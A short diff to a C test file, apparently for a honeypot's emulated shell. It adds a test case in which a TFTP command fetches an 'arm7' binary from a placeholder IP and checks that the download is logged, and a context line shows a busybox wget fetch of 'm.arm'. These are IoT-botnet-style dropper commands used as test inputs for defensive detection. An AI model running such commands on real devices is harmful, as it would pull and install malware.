@@ -873,6 +873,8 @@ test_droppers(void **state)
 	assert_out_has(&b, "tftp: timeout\r\n");
 	run(sh, &b, "pwd", NULL);
 	assert_string_equal((const char *)b.data, "/tmp\r\n");
+	run(sh, &b, "tftp -g -l h -r arm7 198.51.100.5 23456", NULL);
+	assert_true(has_event(&ev, "download", "tftp://198.51.100.5:23456/arm7"));
 
 	/* busybox wget, wget -O- | sh, curl (absent here), nc: recorded, never made. */
 	run(sh, &b, "/bin/busybox wget http://198.51.100.6:8080/m.arm -O /tmp/m; echo $?", NULL);
